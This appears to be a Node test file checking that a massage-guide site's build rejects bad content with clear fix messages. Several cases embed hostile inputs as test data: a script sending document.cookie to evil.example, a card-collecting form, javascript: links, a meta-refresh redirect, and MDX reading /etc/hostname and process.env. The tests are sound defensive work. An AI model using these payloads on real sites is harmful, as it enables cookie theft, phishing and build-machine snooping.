/**
 * Bad content is the most common bad input: each case breaks one thing in a
 * copy of a small valid site (tests/fixtures/content), runs the real
 * `npm run build` steps, and checks that the build stops with a message
 * naming the file, the field or line, and the fix, and leaves the last good
 * dist/ as it was. Checks that need no build are unit tests (tests/unit/checks/);
 * so are the schema cases (tests/unit/schemas/content-schemas.test.ts), of which
 * a few run here to prove the build reports them: one line per problem, before
 * Astro runs, so without Astro's error block and stack trace.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { test } from 'node:test';
import { stripVTControlCharacters } from 'node:util';
import { prices, replace, TYPE } from '../fixtures/content-edits.ts';
import { PUBLISHED_SWEDISH } from '../fixtures/published-swedish.ts';
import { qrSvg } from '../../src/lib/clinics/handouts.ts';

const FIXTURE = resolve('tests/fixtures/content');
/** What the fixture site has published (the build's CONTRACT_ROOT); cases that need more write it with publish(). */
const FIXTURE_CONTRACT = resolve('tests/fixtures/contract');
const BIN = resolve('node_modules/.bin');

interface Case {
  name: string;
  /** Path inside the content folder, and how to change it (return the new text). */
  file: string;
  edit: (text: string) => string;
  expect: RegExp[];
  /** What the output must not hold. */
  reject?: RegExp[];
  /**
   * Problems the site checks find after every entry has loaded are all reported
   * at once, so these cases share one build (each edit on its own line of text).
   */
  together?: true;
}

/** A case that adds, renames or writes files itself, in the copied content folder. */
interface FileCase {
  name: string;
  prepare: (root: string) => void;
  expect: RegExp[];
  reject?: RegExp[] | undefined;
  /**
   * File names, duplicate ids and YAML are checked before any entry loads, and reported together: these share one
   * build (`true`). Cases the site checks find share the build of the `together` edits above (`'site'`).
   */
  together?: true | 'site';
}

const CASES: Case[] = [
  { name: 'missing required field', file: TYPE, edit: replace(/^summary: .*\n/m, ''), expect: [/content\/types\/swedish-massage\.md → summary: `summary` is missing: add `summary:` with one or two plain sentences, 40–220 characters\n/] },
  {
    name: 'misspelt frontmatter key',
    file: TYPE,
    edit: replace('lastReviewed:', 'lastReveiwed: 2026-01-01\nlastReviewed:'),
    expect: [/\n1 content problem stopped the build:\n- \S*content\/types\/swedish-massage\.md → lastReveiwed: unknown key `lastReveiwed`: did you mean `lastReviewed`\?\nBuild failed\./],
    reject: [/Stack trace|InvalidContentEntryDataError|Did not match union|\*\*\*\*/],
  },
  { name: 'unknown reference', file: TYPE, edit: replace('condition: low-back-pain', 'condition: lower-back-pain'), expect: [/content\/types\/swedish-massage\.md → helps\[0\]\.condition/, /"lower-back-pain" is not an entry of conditions/, /Fix: use an id that exists in content\/conditions\//], together: true },
  { name: 'unknown source', file: TYPE, edit: replace('sources: [nccih-massage, cochrane', 'sources: [made-up-2020, cochrane'), expect: [/swedish-massage\.md → sources\[0\]/, /"made-up-2020" is not an entry of sources/, /content\/sources\.yaml/], together: true },
  { name: 'lowered grade above the computed one', file: TYPE, edit: replace('  - condition: low-back-pain\n', '  - condition: low-back-pain\n    lower: { grade: moderate, reason: "It works well in my experience." }\n'), expect: [/swedish-massage\.md → helps\[0\] \(low-back-pain\) → lower\.grade: "moderate" is not below the grade the findings give \(limited\)/, /Fix: delete `lower`/] },
  { name: 'a grade that changes without a dated reason', file: 'findings.yaml', edit: replace('certainty: moderate', 'certainty: high'), expect: [/content\/grade-history\.yaml → grades: the grade of 2 claims changed \(or is new\) without a record: deep-tissue-massage\/low-back-pain is moderate \(recorded: limited\)/, /Fix: add an entry saying why/] },
  { name: 'finding on a consumer health page', file: 'findings.yaml', edit: replace('source: cochrane-2015-low-back-pain', 'source: nccih-massage'), expect: [/content\/findings\.yaml → cochrane-2015-low-back-pain-vs-inactive → source \(line \d+\): nccih-massage is a health-information source/, /Fix: move this entry to content\/statements\.yaml/] },
  { name: "a finding's source id in the wrong case", file: 'findings.yaml', edit: replace('source: cochrane-2015-low-back-pain', 'source: Cochrane-2015-low-back-pain'), expect: [/1 content problem stopped the build:\n- \S*content\/findings\.yaml → cochrane-2015-low-back-pain-vs-inactive → source \(line \d+\): Cochrane-2015-low-back-pain differs only in case from the source cochrane-2015-low-back-pain, and ids are matched exactly\n  Fix: write it exactly as cochrane-2015-low-back-pain\n/] },
  { name: "a statement's source id in the wrong case (no crash while rendering)", file: 'statements.yaml', edit: replace('source: nhs-sciatica', 'source: NHS-sciatica'), expect: [/1 content problem stopped the build:\n- \S*content\/statements\.yaml → nhs-sciatica-exercise → source \(line \d+\): NHS-sciatica differs only in case from the source nhs-sciatica, and ids are matched exactly\n  Fix: write it exactly as nhs-sciatica\n/], reject: [/Cannot read properties|Stack trace:/] },
  { name: 'a review without a DOI or PMID', file: 'sources.yaml', edit: replace('  doi: 10.1002/14651858.CD001929.pub3\n', ''), expect: [/1 content problem stopped the build:\n- \S*content\/sources\.yaml → cochrane-2015-low-back-pain\.doi \(line 8\): a review or trial needs its doi or pmid, copied from its record \(PubMed, the publisher or Cochrane\).*Never invent one\n/], reject: [/\n\s+at /] },
  { name: 'claim with no findings', file: 'statements.yaml', edit: replace('condition: sciatica', 'condition: low-back-pain'), expect: [/deep-tissue-massage\.md → helps\[1\] \(sciatica\): no research finding or statement/, /Fix: record what a review, guideline or trial found in content\/findings\.yaml/] },
  { name: 'wording stronger than the grade', file: TYPE, edit: replace('It may help [low back pain]', 'It probably helps [low back pain]'), expect: [/swedish-massage\.md → line \d+: "probably helps" is wording for moderate evidence, but Low back pain is graded limited evidence/, /Fix: word it as its grade allows \("may help"/] },
  { name: 'synonym that leads to no page', file: 'search-synonyms.yaml', edit: replace('ours: low back pain', 'ours: lumbago'), expect: [/search-synonyms\.yaml:3: "ours: lumbago" uses "lumbago", which no title, alias or glossary term uses/, /Fix: use the words of the page readers should find/] },
  { name: 'synonym phrase listed twice', file: 'search-synonyms.yaml', edit: (t) => `${t}- readers: [bad back]\n  ours: sciatica\n`, expect: [/search-synonyms\.yaml:4: "bad back" is already listed on line 2/, /Fix: keep one entry per phrase/] },
  { name: 'dead internal link', file: TYPE, edit: replace('(/techniques/effleurage/)', '(/techniques/efleurage/)'), expect: [/content\/types\/swedish-massage\.md → line \d+: the link \/techniques\/efleurage\/ leads to no page/, /Fix: check the slug/], together: true },
  { name: 'dead #fragment', file: 'conditions/sciatica.md', edit: replace('(/types/swedish-massage/#evidence)', '(/types/swedish-massage/#risks)'), expect: [/sciatica\.md → line \d+/, /names a section that \/types\/swedish-massage\/ does not have/, /Fix: use one of: .*#safety/], together: true },
  { name: 'duplicate alias', file: 'types/deep-tissue-massage.md', edit: replace('aliases: [deep tissue]', 'aliases: [deep tissue, classic massage]'), expect: [/(deep-tissue|swedish)-massage\.md → aliases: the alias "classic massage" .* is also an alias of "(swedish|deep-tissue)-massage"/, /Fix: remove "classic massage"/], together: true },
  { name: 'alias equal to another slug', file: 'conditions/sciatica.md', edit: replace('aliases: []', 'aliases: [low back pain]'), expect: [/sciatica\.md → aliases: the alias "low back pain" .* is the slug of "low-back-pain"/], together: true },
  { name: 'missing required section', file: TYPE, edit: replace('## What is it? { #what-it-is }', '## What is it?'), expect: [/swedish-massage\.md → section #what-it-is: section #what-it-is is missing/, /Fix: add a heading/], together: true },
  { name: 'section id the layout reserves', file: TYPE, edit: replace('## How is it different? { #differences }', '## How is it different? { #differences }\n\n## Is it safe? { #safety }\n\nText.'), expect: [/section #safety is reserved/, /Fix: rename the heading/], together: true },
  {
    name: 'a reworded heading that loses a published section anchor',
    file: 'guides/safety.mdx',
    edit: replace('## Who should not have a massage? { #who-should-avoid }', '## Who should skip a massage?'),
    expect: [
      /content\/guides\/safety\.mdx → line 9: the section #who-should-avoid was published \(\S*contract\/published-anchors\.txt\), and clinics link to \/guides\/safety\/#who-should-avoid, but the page no longer has that section/,
      /Fix: if this heading is that section reworded, give it its old id: "## Who should skip a massage\? \{ #who-should-avoid \}"/,
    ],
    together: true,
  },
  {
    name: "a reworded heading that loses a pair page's published section anchor",
    file: 'comparisons/deep-tissue-massage-vs-swedish-massage.md',
    edit: replace('## Which is gentler?', '## Which one is softer?'),
    expect: [
      /content\/comparisons\/deep-tissue-massage-vs-swedish-massage\.md → line 8: the section #which-is-gentler was published \(\S*contract\/published-anchors\.txt\), and clinics link to \/compare\/deep-tissue-massage-vs-swedish-massage\/#which-is-gentler, but the page no longer has that section/,
      /Fix: if this heading is that section reworded, give it its old id: "## Which one is softer\? \{ #which-is-gentler \}"/,
    ],
    together: true,
  },
  { name: 'image without alt text', file: TYPE, edit: replace('Relaxed, perhaps a little sore.', 'Relaxed.\n\n![](/favicon.svg)'), expect: [/swedish-massage\.md → line \d+: the image \/favicon\.svg has no alt text/, /Fix: describe what the image shows/], together: true },
  { name: 'malformed YAML', file: TYPE, edit: replace('aliases: [classic massage, relaxation massage]', 'aliases: [classic massage, relaxation massage'), expect: [/swedish-massage\.md → line 5: the YAML cannot be read: Flow sequence in block collection must be sufficiently indented and end with a \]/, /Fix: write plain YAML/], reject: [/:0:0|\n\s+at /] },
  { name: 'a custom YAML tag in findings (stale data never ships)', file: 'findings.yaml', edit: replace('source: cochrane-2015-low-back-pain', 'source: !text cochrane-2015-low-back-pain'), expect: [/content\/findings\.yaml → line \d+: the tag: !text is not read the same way everywhere, so it is not allowed\n  Fix: remove the tag/], reject: [/\[ERROR\]|:0:0|\n\s+at /] },
  { name: 'a YAML merge key', file: 'glossary.yaml', edit: (t) => `${t}- id: knead\n  <<: { term: Kneading }\n  definition: Squeezing and lifting the muscles.\n`, expect: [/content\/glossary\.yaml → line \d+: a merge key \(<<\) copies fields from elsewhere/], reject: [/unknown key `<<`|is missing/] },
  { name: 'a duplicate key in frontmatter', file: TYPE, edit: replace('lastReviewed:', 'summary: Twice.\nlastReviewed:'), expect: [/swedish-massage\.md → line \d+: a key is written twice in one entry/, /Fix: keep one of the two lines/], reject: [/\n\s+at |YAMLException/] },
  { name: 'an empty article file', file: 'regions/legs.md', edit: () => '', expect: [/content\/regions\/legs\.md → line 1: the file is empty\n  Fix: start the file with a line "---"/], reject: [/:0:0/] },
  { name: 'MDX syntax error', file: 'guides/safety.mdx', edit: replace('People with a fever.', 'People with <strong>a fever.'), expect: [/safety\.mdx → line 11: the MDX cannot be read: .*Expected a closing tag for `<strong>`/, /Fix: close every tag/], reject: [/:0:0|\n\s+at /] },
  { name: 'misused content component', file: 'guides/safety.mdx', edit: replace('People with a fever.', 'People with a fever.\n\n<EvidenceTable rows="all" />'), expect: [/safety\.mdx → line 13: <EvidenceTable> is not an imported content component/, /Fix: use a content component \(EvidenceGradeTable, GradeRule, GlossaryList\)/] },
  {
    name: 'MDX that runs code on the build machine (the policy, before Astro runs)',
    file: 'guides/safety.mdx',
    edit: replace(
      '## Who should not have a massage?',
      "import h from '../../../../../etc/hostname?raw'\nimport { jsx } from 'astro/jsx-runtime'\nexport const components = { img: 'iframe' }\n\nHome {process.env.HOME}.\n\n{jsx('me'+'ta', { 'http-equiv': 'refresh', content: '3;url=https://evil.example/' })}\n\n<a href=\"\x01javascript:alert(1)\">x</a>\n\n<svg><a><animate attributeName=\"href\" values=\"javascript:alert(1)\" /></a></svg>\n\n## Who should not have a massage?",
    ),
    expect: [
      /safety\.mdx → line 9: imports "\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/etc\/hostname\?raw", which is not a content component\n  Fix: import only a content component, by its documented path/,
      /safety\.mdx → line 10: imports "astro\/jsx-runtime"/,
      /safety\.mdx → line 11: `export` changes what the article renders/,
      /safety\.mdx → line 13: \{process\.env\.HOME\} reads the build machine/,
      /safety\.mdx → line 15: .* calls jsx\(\) to make elements the allowlist never sees/,
      /safety\.mdx → line 17: the link "\\u0001javascript:alert\(1\)" is a javascript: link as a browser reads it/,
      /safety\.mdx → line 19: <svg> is not an element an article may contain/,
      /safety\.mdx → line 19: <animate> is not an element/,
    ],
    reject: [/:0:0|\n\s+at |\[ERROR\]/],
  },
  { name: 'content component in a Markdown file', file: 'conditions/sciatica.md', edit: (t) => `${t}\n<EvidenceBadge grade="limited" />\n`, expect: [/sciatica\.md → line \d+: <EvidenceBadge> is a component, and components work only in \.mdx files/, /Fix: rename the file to \.mdx and import EvidenceBadge/], together: true },
  { name: 'meta refresh in a Markdown body', file: 'conditions/sciatica.md', edit: (t) => `${t}\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n`, expect: [/content\/conditions\/sciatica\.md → line \d+: <meta> is raw HTML that changes what the page does/, /Fix: remove it: the layout writes every <meta> tag/], together: true },
  { name: 'event handler in an MDX body', file: 'guides/safety.mdx', edit: replace('People with a fever.', 'People with a <span onmouseover="steal()">fever</span>.'), expect: [/safety\.mdx → line 11: <span> has the attribute onmouseover, which an article may not set/, /Fix: remove it: articles use only id, class/] },
  { name: 'javascript: source url', file: 'sources.yaml', edit: replace('url: https://www.nhs.uk/conditions/sciatica/', 'url: "javascript:alert(1)"'), expect: [/content\/sources\.yaml → nhs-sciatica\.url \(line \d+\): a source url is a web address starting with https:\/\//] },
  { name: 'the same condition twice in helps', file: 'types/deep-tissue-massage.md', edit: replace('  - condition: sciatica', '  - condition: low-back-pain'), expect: [/deep-tissue-massage\.md → helps\[1\]\.condition: "low-back-pain" is graded twice/, /Fix: keep one claim per condition/], together: true },
  { name: 'an entry related to itself', file: TYPE, edit: replace('related: [deep-tissue-massage]', 'related: [deep-tissue-massage, swedish-massage]'), expect: [/swedish-massage\.md → related\[1\]: "swedish-massage" lists itself as related/, /Fix: remove "swedish-massage" from related/], together: true },
  { name: 'review date in the future', file: TYPE, edit: replace('lastReviewed: 2026-11-23', 'lastReviewed: 2099-01-01'), expect: [/swedish-massage\.md → lastReviewed: 2099-01-01 is after the build date/, /Fix: write the date the review was done, which cannot be in the future/], together: true },
  { name: 'price date in the future', file: TYPE, edit: replace('related: [deep-tissue-massage]', `related: [deep-tissue-massage]\n${prices('2099-05-01', '{ minutes: 60, amount: 50 }')}`), expect: [/swedish-massage\.md → published: 2099-05-01 is after the build date/, /Fix: write the date the prices were published/] },
  { name: 'relative link', file: 'conditions/sciatica.md', edit: (t) => `${t}\nSee [the type](types/swedish-massage).\n`, expect: [/sciatica\.md → line \d+: the relative link types\/swedish-massage leads from \/conditions\/sciatica\/ to \/conditions\/sciatica\/types\/swedish-massage/, /Fix: write the link as a site path/], together: true },
  { name: 'dead reference-style link', file: TYPE, edit: (t) => `${t}\nRelaxed, [see][s].\n\n[s]: /conditions/siatica/\n`, expect: [/swedish-massage\.md → line \d+: the link \/conditions\/siatica\/ leads to no page/], together: true },
  { name: 'missing local image', file: TYPE, edit: (t) => `${t}\n![A calf](/images/calf.png)\n`, expect: [/swedish-massage\.md → line \d+: \/images\/calf\.png is not a file in public\//, /Fix: add the file as public\/images\/calf\.png/], together: true },
  { name: 'glossary article that is no page', file: 'glossary.yaml', edit: replace('article: /techniques/effleurage/', 'article: /techniques/efleurage/'), expect: [/glossary\.yaml → effleurage\.article \(line \d+\): \/techniques\/efleurage\/ is no page/], together: true },
  { name: 'comparison link to a type that does not exist', file: 'conditions/low-back-pain.md', edit: (t) => `${t}\nCompare [them](/compare/?t=swedish-massage&t=hot-stone-massage).\n`, expect: [/low-back-pain\.md → line \d+: the link \/compare\/\?t=swedish-massage&t=hot-stone-massage compares "hot-stone-massage", which is not a type/, /Fix: use type slugs from content\/types\//], together: true },
  { name: 'link to a non-ASCII heading by its ASCII form', file: 'conditions/low-back-pain.md', edit: (t) => `${t}\n## Café & spa options\n\nSee [spa options](#cafe-and-spa-options).\n`, expect: [/low-back-pain\.md → line \d+: the link #cafe-and-spa-options names a section that \/conditions\/low-back-pain\/ does not have/, /Fix: use one of: .*#café--spa-options/], together: true },
  { name: 'dead raw <a href> link', file: 'techniques/effleurage.md', edit: (t) => `${t}\nSee <a href="/conditions/siatica/">sciatica</a>.\n`, expect: [/effleurage\.md → line \d+: the link \/conditions\/siatica\/ leads to no page/], together: true },
  { name: 'javascript: link in a Markdown body', file: 'techniques/effleurage.md', edit: (t) => `${t}\n[Click](javascript:alert(document.cookie))\n`, expect: [/effleurage\.md → line \d+: the link "javascript:alert\(document\.cookie\)?" is a javascript: link as a browser reads it/, /Fix: link to an https:\/\/ address/], together: true },
  { name: 'entity-encoded javascript: link in a Markdown body', file: 'techniques/effleurage.md', edit: (t) => `${t}\n[Click](&#106;avascript:alert(1)) and [here](javascript&colon;alert(2))\n`, expect: [/effleurage\.md → line \d+: the link "&#106;avascript:alert\(1" is a javascript: link as a browser reads it/, /the link "javascript&colon;alert\(2" is a javascript: link/], reject: [/relative link &/], together: true },
  { name: '<script> in a Markdown body', file: 'techniques/stripping.md', edit: (t) => `${t}\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n`, expect: [/stripping\.md → line \d+: <script> is raw HTML that changes what the page does/, /Fix: remove it: article pages run no JavaScript/], together: true },
  { name: '<iframe> in a Markdown body', file: 'techniques/stripping.md', edit: (t) => `${t}\n<iframe src="https://evil.example/"></iframe>\n`, expect: [/stripping\.md → line \d+: <iframe> is raw HTML/, /Fix: remove it and link to the page instead/], together: true },
  { name: '<form> in a Markdown body', file: 'regions/legs.md', edit: (t) => `${t}\n<form action="https://evil.example/"><input name="card"></form>\n`, expect: [/legs\.md → line \d+: <form> is raw HTML/, /Fix: remove it and link to the page that holds the form/], together: true },
  { name: '<style> in a Markdown body', file: 'regions/legs.md', edit: (t) => `${t}\n<style>main { display: none }</style>\n`, expect: [/legs\.md → line \d+: <style> is raw HTML/, /Fix: remove it: styles belong in src\/styles\/global\.css/], together: true },
  { name: 'quotes nested 5,000 deep (the pre-check, before Astro renders)', file: 'regions/legs.md', edit: (t) => `${t}\n${'>'.repeat(5000)} deep\n`, expect: [/content\/regions\/legs\.md → line \d+: quotes, lists or emphasis here are nested 5,002 levels deep, more than the 16 an article may use/, /Fix: flatten it/], reject: [/\[ERROR\]|Maximum call stack|\n\s+at /] },
  { name: 'HTML nested 20,000 deep (a body Astro cannot render)', file: 'regions/legs.md', edit: (t) => `${t}\n${'<span>'.repeat(20_000)}deep\n`, expect: [/1 content problem stopped the build:\n- \S*content\/regions\/legs\.md → body: the body nests too deeply to be rendered/, /Fix: flatten it/], reject: [/\[ERROR\]|Maximum call stack|\n\s+at /] },
];

/** Records URLs as published, and redirects, in the contract folder beside the copied content (the build's CONTRACT_ROOT). */
function publish(root: string, urls: string[], redirects: string[] = []): void {
  const contract = join(root, '..', 'contract');
  mkdirSync(contract, { recursive: true });
  writeFileSync(join(contract, 'published-urls.txt'), `${urls.join('\n')}\n`);
  writeFileSync(join(contract, 'redirects.txt'), redirects.map((r) => `${r}\n`).join(''));
}
const copy = (root: string, from: string, to: string) => writeFileSync(join(root, to), readFileSync(join(root, from)));
const append = (root: string, file: string, text: string) => writeFileSync(join(root, file), readFileSync(join(root, file), 'utf8') + text);


const FILE_CASES: FileCase[] = [
  {
    name: 'comparison that is not a pair of types',
    prepare: (root) => renameSync(join(root, 'comparisons/deep-tissue-massage-vs-swedish-massage.md'), join(root, 'comparisons/swedish-massage-vs-deep-tissue-massage.md')),
    expect: [/swedish-massage-vs-deep-tissue-massage is not a pair of type slugs in alphabetical order/, /Fix: name the file/],
  },
  {
    name: 'two files whose slugs differ only by case',
    prepare: (root) => copy(root, TYPE, 'types/Swedish-Massage.md'),
    expect: [
      /content\/types\/Swedish-Massage\.md → file name: Swedish-Massage\.md is not a lowercase-hyphen slug/,
      /Fix: rename it to .*content\/types\/swedish-massage\.md/,
      /Swedish-Massage\.md and swedish-massage\.md would be the same page \(swedish-massage\)/,
    ],
    together: true,
  },
  {
    name: 'the same slug as .md and .mdx',
    prepare: (root) => copy(root, 'techniques/effleurage.md', 'techniques/effleurage.mdx'),
    expect: [/techniques\/effleurage\.md → file name: effleurage\.md and effleurage\.mdx would be the same page/, /Fix: merge them into .*effleurage\.md and delete .*effleurage\.mdx/],
    together: true,
  },
  {
    name: 'a .markdown file',
    prepare: (root) => renameSync(join(root, 'regions/legs.md'), join(root, 'regions/legs.markdown')),
    expect: [/content\/regions\/legs\.markdown → file name: legs\.markdown is not read/, /Fix: rename it to .*content\/regions\/legs\.md/],
    together: true,
  },
  {
    name: 'an empty glossary',
    prepare: (root) => writeFileSync(join(root, 'glossary.yaml'), '[]\n'),
    expect: [/content\/glossary\.yaml → line 1: the file lists no glossary entries, and pages read them from here\n {2}Fix: add the entries/],
    reject: [/\[WARN\]|\[ERROR\]/],
  },
  {
    name: 'a file that is not UTF-8',
    prepare: (root) => writeFileSync(join(root, 'regions/legs.md'), Buffer.concat([readFileSync(join(root, 'regions/legs.md')), Buffer.from('\nCaf\xe9 chairs.\n', 'latin1')])),
    expect: [/content\/regions\/legs\.md → byte \d+ \(line \d+, column 4\): the file is not UTF-8: byte 0xE9/, /Fix: re-save the file as UTF-8/],
  },
  {
    name: 'a source id used twice',
    prepare: (root) => append(root, 'sources.yaml', '- id: nhs-sciatica\n  title: Another page entirely\n  authors: NHS\n  publisher: NHS\n  kind: health-information\n  url: https://www.nhs.uk/\n'),
    expect: [/content\/sources\.yaml → id \(line \d+\): the source id "nhs-sciatica" is also used at line \d+/, /Fix: give one of them another id/],
    together: true,
  },
  {
    name: 'a glossary id used twice',
    prepare: (root) => append(root, 'glossary.yaml', '- id: effleurage\n  term: Gliding\n  definition: Another definition that replaces the first one.\n'),
    expect: [/content\/glossary\.yaml → id \(line \d+\): the glossary id "effleurage" is also used at line 1/],
    together: true,
  },
  {
    name: 'a glossary term under two ids',
    prepare: (root) => append(root, 'glossary.yaml', '- id: gliding-strokes\n  term: EFFLEURAGE\n  definition: Another definition of the same term.\n'),
    expect: [/content\/glossary\.yaml → gliding-strokes \(line \d+\): "effleurage" is also a term or alias of "effleurage"/, /Fix: keep "effleurage" under one id/],
    together: true,
  },
  {
    name: 'a renamed entry without its old slug as an alias (published URLs lost)',
    prepare: (root) => renameSwedish(root, false),
    expect: [
      ...PUBLISHED_SWEDISH.map((path) => new RegExp(`published-urls\\.txt → ${path.replace(/[/.]/g, '\\$&')}: was published, and clinics may link to it, but this build no longer answers it`)),
      /Fix: if the entry was renamed, keep its old slug "swedish-massage" in its `aliases`/,
    ],
  },
  {
    name: 'two types whose pair pages would share one URL',
    prepare: (root) => {
      const type = (id: string, related: string) => writeFileSync(join(root, `types/${id}.md`), readFileSync(join(root, TYPE), 'utf8').replace(/^aliases: .*$/m, 'aliases: []').replace(/^related: .*$/m, `related: [${related}]`));
      type('deep-tissue-massage-vs-x', 'swedish-massage');
      type('x-vs-swedish-massage', 'deep-tissue-massage');
    },
    expect: [
      /content\/types\/x-vs-swedish-massage\.md → related: the pair page of deep-tissue-massage and x-vs-swedish-massage would be at \/compare\/deep-tissue-massage-vs-x-vs-swedish-massage\/, which is already the pair page of deep-tissue-massage-vs-x and swedish-massage \(\S*content\/types\/deep-tissue-massage-vs-x\.md → related\)/,
      /Fix: rename one of the two/,
    ],
    together: 'site',
  },
  {
    name: 'a removed alias, removed codes, and an article renamed by find-and-replace (published URLs lost)',
    prepare: (root) => {
      writeFileSync(join(root, TYPE), readFileSync(join(root, TYPE), 'utf8').replace('aliases: [classic massage, relaxation massage]', 'aliases: [classic massage]'));
      renameEverywhere(root, 'effleurage', 'effleurage-strokes');
      publish(root, ['/types/relaxation-massage/', '/codes/icd-10/M54.50/', '/codes/icd-10/M54.5/', '/techniques/effleurage/'], ['/types/gone/ /types/nowhere/']);
    },
    expect: [
      /published-urls\.txt → \/types\/relaxation-massage\/: was published, and clinics may link to it, but this build no longer answers it\n  Fix: .*if an alias was removed, restore it; if the entry was removed, add the line "\/types\/relaxation-massage\/ \/types\/<closest>\/" to \S*contract\/redirects\.txt/,
      /published-urls\.txt → \/codes\/icd-10\/M54\.50\/: was published.*\n  Fix: restore M54\.50 \(or the code under it that made this page\) in the `codes` of its condition; if the code was wrong, add the line "\/codes\/icd-10\/M54\.50\/ \/conditions\/<closest>\/"/,
      /published-urls\.txt → \/codes\/icd-10\/M54\.5\/: was published/,
      /published-urls\.txt → \/techniques\/effleurage\/: was published.*\n  Fix: if the entry was renamed, keep its old slug "effleurage" in its `aliases`/,
      /redirects\.txt → line 1: \/types\/gone\/ redirects to \/types\/nowhere\/, which this build does not make/,
    ],
  },
  {
    name: 'a glossary alias bomb (never an empty glossary)',
    prepare: (root) => append(root, 'glossary.yaml', `- id: bomb\n  term: &t Bomb\n  definition: Long enough definition of the term.\n  aliases: [${Array.from({ length: 101 }, () => '*t').join(', ')}]\n`),
    expect: [/content\/glossary\.yaml → line \d+: more than 100 aliases \(\*name\) in one file/],
  },
  {
    name: 'malformed glossary YAML',
    prepare: (root) => append(root, 'glossary.yaml', '- id: broken\n  term: [unclosed\n'),
    expect: [/content\/glossary\.yaml → line \d+: the YAML cannot be read/, /Fix: write plain YAML/],
  },
];

/** The last good site, which a failed build must leave as it was. */
const OLD_SITE = '<!doctype html><title>The last good build</title>';

/** Every file under a folder whose text contains `needle`. */
function filesContaining(dir: string, needle: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((d) => d.isFile() && readFileSync(join(d.parentPath, d.name)).includes(needle))
    .map((d) => join(d.parentPath, d.name).slice(dir.length));
}

/**
 * A copy of the fixture content (changed by `prepare`) beside a last good dist/, with a cache of its
 * own: each build() after the first is a warm build, as an author's next `npm run build` is.
 */
function site(prepare: (root: string) => void, deploy: Record<string, string> = {}) {
  const work = mkdtempSync(join(tmpdir(), 'bad-content-'));
  const content = join(work, 'content');
  cpSync(FIXTURE, content, { recursive: true });
  cpSync(FIXTURE_CONTRACT, join(work, 'contract'), { recursive: true });
  prepare(content);
  const out = join(work, 'dist');
  mkdirSync(out);
  writeFileSync(join(out, 'index.html'), OLD_SITE);
  const { SITE_URL: _deployment, CONTACT_URL: _contact, ...env } = process.env;
  return {
    content,
    out,
    /** `npm run build`'s script, or with `astroOnly` a plain `astro build` as a host runs it (no pre-check, no staging). */
    build(astroOnly = false): { status: number | null; output: string } {
      // Built as a local preview (no SITE_URL), as `npm start` does, unless a case gives the deployment's addresses.
      const [command, args] = astroOnly ? [join(BIN, 'astro'), ['build']] : [process.execPath, ['scripts/build.ts']];
      const result = spawnSync(command, args, {
        encoding: 'utf8',
        env: { ...env, ...deploy, PATH: `${BIN}:${process.env['PATH']}`, CONTENT_ROOT: content, CONTRACT_ROOT: join(work, 'contract'), BUILD_OUT: out, ASTRO_OUT_DIR: out, ASTRO_CACHE_DIR: join(work, 'cache') },
      });
      // Colours (on when CI is set) would split the words the patterns look for.
      return { status: result.status, output: stripVTControlCharacters(`${result.stdout}\n${result.stderr}`) };
    },
    remove: () => rmSync(work, { recursive: true, force: true }),
  };
}

function build(prepare: (root: string) => void, inspect?: (out: string) => void, deploy: Record<string, string> = {}): { status: number | null; output: string; oldSiteIntact: boolean } {
  const copy = site(prepare, deploy);
  const { status, output } = copy.build();
  inspect?.(copy.out);
  const oldSiteIntact = readdirSync(copy.out).join() === 'index.html' && readFileSync(join(copy.out, 'index.html'), 'utf8') === OLD_SITE && !existsSync(`${copy.out}-staging`);
  copy.remove();
  return { status, output, oldSiteIntact };
}

test('the fixture site builds without SITE_URL, warns once, and writes no localhost address anywhere', () => {
  let localhost: string[] = [];
  let pages = 0;
  const { status, output } = build(
    () => {},
    (out) => {
      localhost = filesContaining(out, 'localhost');
      pages = filesContaining(out, '<title>').length;
    },
  );
  assert.equal(status, 0, output.slice(-3000));
  assert.ok(pages > 20, `the build wrote ${pages} pages`);
  assert.deepEqual(localhost, [], 'files with a localhost address');
  assert.equal(output.match(/SITE_URL is not set/g)?.length, 1, output.slice(0, 2000));
});

test('a deploy build with a wrong SITE_URL or CONTACT_URL stops before anything runs, with the fix', () => {
  const cases: [Record<string, string>, RegExp][] = [
    [{ SITE_URL: 'http://localhost:4321' }, /SITE_URL "http:\/\/localhost:4321" is not https.*\. Fix: SITE_URL=https:\/\/localhost:4321\//],
    [{ SITE_URL: 'https://10.0.0.5/' }, /SITE_URL "https:\/\/10\.0\.0\.5\/" is a private network address, which readers cannot reach\. Fix: set the public address readers will use/],
    [{ SITE_URL: 'https://editor:s3cret@massage-guide.example/?ref=1' }, /SITE_URL "https:\/\/…@massage-guide\.example\/\?ref=1" holds a user name or password.*Fix: SITE_URL=https:\/\/massage-guide\.example\/\n/],
    [{ SITE_URL: 'https://massage-guide.example/', CONTACT_URL: 'http://massage-guide.example/contact' }, /CONTACT_URL "http:\/\/massage-guide\.example\/contact" must start with mailto: or https:\. Fix: set it to a mailto: address/],
  ];
  for (const [deploy, message] of cases) {
    const { status, output, oldSiteIntact } = build(() => {}, undefined, deploy);
    assert.notEqual(status, 0, JSON.stringify(deploy));
    assert.match(output, message);
    assert.doesNotMatch(output, /s3cret|\n\s+at |astro build/, 'no password, stack trace or Astro run');
    assert.equal(output.match(/Fix:/g)?.length, 1, `one message with one fix:\n${output}`);
    assert.equal(oldSiteIntact, true);
  }
});

/** Renames a slug in every file and file name of the content folder, as an author's find-and-replace would. */
function renameEverywhere(root: string, from: string, to: string): void {
  const slug = new RegExp(`${from}(?![\\w-])`, 'g');
  for (const entry of readdirSync(root, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const path = join(entry.parentPath, entry.name);
    writeFileSync(path, readFileSync(path, 'utf8').replace(slug, to));
    if (entry.name.includes(from)) renameSync(path, join(entry.parentPath, entry.name.replace(from, to)));
  }
}

/** Renames Swedish massage to swedish-massage-therapy everywhere, as an author would, keeping the old slug as an alias or not. */
function renameSwedish(root: string, keepAlias: boolean): void {
  renameEverywhere(root, 'swedish-massage', 'swedish-massage-therapy');
  const type = join(root, 'types/swedish-massage-therapy.md');
